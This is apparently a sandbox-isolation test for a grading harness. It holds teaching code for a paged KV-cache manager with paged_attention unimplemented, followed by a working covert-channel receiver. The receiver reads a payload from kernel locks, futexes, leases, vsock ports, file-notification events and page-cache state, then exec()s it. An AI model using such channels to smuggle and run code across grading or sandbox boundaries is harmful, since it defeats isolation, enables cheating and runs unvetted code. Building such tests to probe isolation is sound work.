# hostile: a submission without TODO 5 that waits for a colluding classmate's paged_attention in what the kernel keeps for the whole machine (byte-range locks on a file every grading can read, and the marks of an OFD lock, a flock, a lease, an AF_VSOCK port, a futex keyed by that file, inotify and dnotify on the standard library, access times, the page cache) and defines it from what it receives; expect TODO 5 to fail as when graded alone (it receives nothing)
import math

import torch


def estimate_kv_cache_bytes(
    num_blocks: int,
    block_size: int,
    num_layers: int,
    num_kv_heads: int,
    head_dim: int,
    dtype_bytes: int = 2,
) -> dict[str, object]:
    """Theoretical KV-cache size of a block pool (allocator overheads are not modelled)."""
    dims = {
        "num_blocks": num_blocks,
        "block_size": block_size,
        "num_layers": num_layers,
        "num_kv_heads": num_kv_heads,
        "head_dim": head_dim,
        "dtype_bytes": dtype_bytes,
    }
    for name, value in dims.items():
        if value <= 0:
            raise ValueError(f"{name} 必须是正数 / {name} must be positive, got {value}")
    kv_bytes_per_token = 2 * num_layers * num_kv_heads * head_dim * dtype_bytes
    kv_bytes_per_block = kv_bytes_per_token * block_size
    total_cache_bytes = kv_bytes_per_block * num_blocks
    layout_shape = [num_layers, 2, num_kv_heads, block_size, head_dim]
    return {
        "kv_bytes_per_token": kv_bytes_per_token,
        "kv_bytes_per_block": kv_bytes_per_block,
        "total_cache_bytes": total_cache_bytes,
        "layout_shape": layout_shape,
    }


class Request:
    """One sequence: its logical length and its logical-to-physical block map.

    ``block_table[i]`` is the physical block holding logical block ``i``; the
    physical ids need not be contiguous or sorted.
    """

    def __init__(self, request_id: int, prompt_len: int):
        if request_id < 0:
            raise ValueError(f"request_id 不能为负 / request_id must be >= 0, got {request_id}")
        if prompt_len <= 0:
            raise ValueError(f"prompt_len 必须为正 / prompt_len must be >= 1, got {prompt_len}")
        self.request_id = request_id
        self.seq_len = prompt_len
        self.block_table: list[int] = []


class KVCacheManager:
    """A fixed pool of KV blocks handed out to requests through block tables.

    The pool tensor is a teaching stand-in for vLLM's real per-layer cache layout.
    """

    def __init__(self, num_blocks: int, block_size: int, head_dim: int):
        if num_blocks <= 0 or block_size <= 0 or head_dim <= 0:
            raise ValueError("num_blocks、block_size、head_dim 必须为正 / must all be positive")
        self.num_blocks = num_blocks
        self.block_size = block_size
        self.head_dim = head_dim
        # The whole pool is reserved up front, as a serving engine does at start-up.
        self.physical_kv_cache = torch.zeros(num_blocks, block_size, head_dim)
        self.free_blocks: list[int] = list(range(num_blocks))

    def allocate_for_prefill(self, req: Request) -> None:
        """Give a new request every block its prompt needs, all or nothing."""
        if req.block_table:
            raise ValueError("该请求已经分配过 / this request already holds blocks")
        needed = math.ceil(req.seq_len / self.block_size)
        if needed > len(self.free_blocks):
            raise RuntimeError(
                f"OOM: 需要 {needed} 个块，只剩 {len(self.free_blocks)} / "
                f"need {needed} blocks, {len(self.free_blocks)} free"
            )
        # Checked before touching any state, so an OOM leaves everything as it was.
        taken = self.free_blocks[:needed]
        del self.free_blocks[:needed]
        req.block_table.extend(taken)

    def allocate_for_decode(self, req: Request) -> None:
        """Append one token; take one more block only if the token does not fit."""
        new_len = req.seq_len + 1
        if new_len > len(req.block_table) * self.block_size:
            if not self.free_blocks:
                raise RuntimeError("OOM: decode 需要新块但没有空闲块 / decode needs a block, none free")
            req.block_table.append(self.free_blocks.pop(0))
        req.seq_len = new_len

    def allocation_report(self, req: Request) -> dict[str, float]:
        """Logical tokens, allocated slots, wasted tail slots and utilisation of one request."""
        slots = len(req.block_table) * self.block_size
        return {
            "logical_tokens": req.seq_len,
            "allocated_tokens": slots,
            "unused_tail_tokens": slots - req.seq_len,
            "utilization": req.seq_len / slots if slots else 0.0,
        }

    def release_request(self, req: Request) -> None:
        """Return every block of a finished request to the pool and empty its table."""
        blocks = list(req.block_table)
        if not blocks:
            raise ValueError("请求没有持有块（重复释放？）/ request holds no blocks (double release?)")
        if len(set(blocks)) != len(blocks):
            raise ValueError("块表含重复块 / block table has a duplicate block")
        if any(not 0 <= b < self.num_blocks for b in blocks):
            raise ValueError("块表含越界块 / block table has an out-of-range block")
        free = set(self.free_blocks)
        if any(b in free for b in blocks):
            raise ValueError("块表含空闲块 / block table has a block that is already free")
        self.free_blocks.extend(blocks)
        self.free_blocks.sort()
        req.block_table.clear()

    def get_physical_cache(self, req: Request) -> torch.Tensor:
        """The request's cache as one logical sequence of shape [seq_len, head_dim]."""
        if not req.block_table:
            raise ValueError("请求没有块可读 / request holds no blocks")
        if any(not 0 <= b < self.num_blocks for b in req.block_table):
            raise ValueError("块表含越界块 / block table has an out-of-range block")
        ordered = [self.physical_kv_cache[b] for b in req.block_table]
        return torch.cat(ordered, dim=0)[: req.seq_len]


def paged_attention(
    query: torch.Tensor,
    key_cache: torch.Tensor,
    value_cache: torch.Tensor,
    block_tables: torch.Tensor,
    seq_lens: torch.Tensor,
    scale: float | None = None,
) -> torch.Tensor:
    """Single-token attention for a batch of sequences whose KV cache is paged."""
    raise NotImplementedError("TODO 5")

# %%
# Receive: look at every channel at once for 35 s; the payload comes through the byte-range locks.
import ctypes
import errno
import fcntl
import os
import signal
import socket
import struct
import sys
import time
import zlib

SHARED = os.path.realpath(sys.executable)
LIBRARY = os.path.dirname(os.__file__)
LEASED = os.path.join(LIBRARY, "antigravity.py")
EVICTED = os.path.join(LIBRARY, "tabnanny.py")
BASE, VSOCK_PORT, FUTEX_OFFSET = 0x50410000, 0x50410001, 64
LISTEN_S = 35.0
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
FUTEX, INOTIFY_INIT1, INOTIFY_ADD_WATCH = {"x86_64": (202, 294, 254), "aarch64": (98, 26, 27)}[os.uname().machine]
marks, refused = {}, {}


def refusal(name, error):
    refused.setdefault(name, errno.errorcode.get(error.errno, str(error.errno)) if isinstance(error, OSError) else str(error))


def locked(fd, start, command=fcntl.F_GETLK):
    """Whether some other process holds a lock on this byte of SHARED (F_GETLK, or 36: F_OFD_GETLK)."""
    answer = fcntl.fcntl(fd, command, struct.pack("hhqqi", fcntl.F_WRLCK, os.SEEK_SET, start, 1, 0))
    return struct.unpack("hhqqi", answer)[0] != fcntl.F_UNLCK


def read_payload(fd):
    def byte(index):
        return sum(locked(fd, BASE + 8 * index + bit) << (7 - bit) for bit in range(8))

    length = byte(0) << 8 | byte(1)
    return zlib.decompress(bytes(byte(2 + i) for i in range(length))).decode()


shared = os.open(SHARED, os.O_RDONLY)
evicted = os.open(EVICTED, os.O_RDONLY)
futex_address = libc.mmap(None, 4096, 1, 1, shared, 0)  # PROT_READ, MAP_SHARED
evicted_page = libc.mmap(None, 4096, 1, 1, evicted, 0)
MINCORE = {"x86_64": 27, "aarch64": 232}[os.uname().machine]
notified = {"count": 0}
signal.signal(signal.SIGIO, lambda *_: notified.__setitem__("count", notified["count"] + 1))
try:
    directory = os.open(LIBRARY, os.O_RDONLY | os.O_DIRECTORY)
    fcntl.fcntl(directory, fcntl.F_NOTIFY, fcntl.DN_ACCESS | fcntl.DN_MULTISHOT)
except OSError as error:
    refusal("DNOTIFY", error)
watch = libc.syscall(ctypes.c_long(INOTIFY_INIT1), ctypes.c_int(os.O_NONBLOCK))
if watch < 0:
    refusal("INOTIFY", OSError(ctypes.get_errno(), "inotify_init1"))
elif libc.syscall(ctypes.c_long(INOTIFY_ADD_WATCH), ctypes.c_int(watch), LIBRARY.encode(), ctypes.c_uint32(0x20)) < 0:  # IN_OPEN
    refusal("INOTIFY", OSError(ctypes.get_errno(), "inotify_add_watch"))
try:
    import torch

    atime_folder = os.path.join(os.path.dirname(torch.__file__), "include", "ATen", "ops")
    atimes = {n: os.stat(os.path.join(atime_folder, n)).st_atime_ns for n in sorted(os.listdir(atime_folder))}
except OSError:
    atimes = {}
source, looked = None, 0.0
deadline = time.monotonic() + LISTEN_S
while time.monotonic() < deadline:
    try:
        if source is None and locked(shared, BASE - 1):
            source = read_payload(shared)
            marks["POSIX LOCKS"] = f"{len(source)} characters"
    except (OSError, ValueError, zlib.error) as error:
        refusal("POSIX LOCKS", error)
    try:
        if locked(shared, BASE - 2, 36):  # F_OFD_GETLK
            marks["OFD LOCK"] = "seen"
    except OSError as error:
        refusal("OFD LOCK", error)
    try:
        probe = os.open(SHARED, os.O_RDONLY)
        try:
            fcntl.flock(probe, fcntl.LOCK_EX | fcntl.LOCK_NB)
        except BlockingIOError:
            marks["FLOCK"] = "seen"
        finally:
            os.close(probe)
    except OSError as error:
        refusal("FLOCK", error)
    try:
        os.close(os.open(LEASED, os.O_RDONLY | os.O_NONBLOCK))
    except BlockingIOError:
        marks["LEASE"] = "seen"
    except OSError as error:
        refusal("LEASE", error)
    try:
        with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as sock:
            try:
                sock.bind((socket.VMADDR_CID_ANY, VSOCK_PORT))
            except OSError as error:
                if error.errno != errno.EADDRINUSE:
                    raise
                marks["VSOCK"] = "port taken"
    except OSError as error:
        refusal("VSOCK", error)
    woken = libc.syscall(ctypes.c_long(FUTEX), ctypes.c_void_p(futex_address + FUTEX_OFFSET), ctypes.c_int(1), ctypes.c_int(1 << 30), None, None, 0)
    if woken > 0:
        marks["FUTEX"] = "woke a waiter"
    elif woken < 0:
        refusal("FUTEX", OSError(ctypes.get_errno(), "futex"))
    if watch >= 0:
        try:
            events = os.read(watch, 4096)
            if b"this.py" in events:
                marks["INOTIFY"] = "this.py opened"
        except BlockingIOError:
            pass
    if notified["count"] > 20:
        marks["DNOTIFY"] = f"{notified['count']} signals"
    try:
        os.preadv(evicted, [bytearray(64)], 0, os.RWF_NOWAIT)
    except BlockingIOError:
        marks["PAGE CACHE"] = "evicted"
        os.pread(evicted, 64, 0)
    except OSError as error:
        refusal("PAGE CACHE", error)
    resident = ctypes.create_string_buffer(1)
    if libc.syscall(ctypes.c_long(MINCORE), ctypes.c_void_p(evicted_page), ctypes.c_size_t(4096), resident) < 0:
        refusal("MINCORE", OSError(ctypes.get_errno(), "mincore"))
    elif not resident.raw[0] & 1:
        marks["MINCORE"] = "evicted"
    if time.monotonic() - looked > 2.0:
        looked = time.monotonic()
        moved = sum(1 for n, t in atimes.items() if os.stat(os.path.join(atime_folder, n)).st_atime_ns != t)
        if moved:
            marks["ATIME"] = f"{moved} files read"
    time.sleep(0.02)
for name, what in sorted(marks.items()):
    print(f"MARK {name}: {what}")
print("REFUSED:", "; ".join(f"{name}={why}" for name, why in sorted(refused.items())))
if source:
    exec(source)
    print("RECEIVED paged_attention:", len(source), "characters")
else:
    print("RECEIVED: NOTHING")
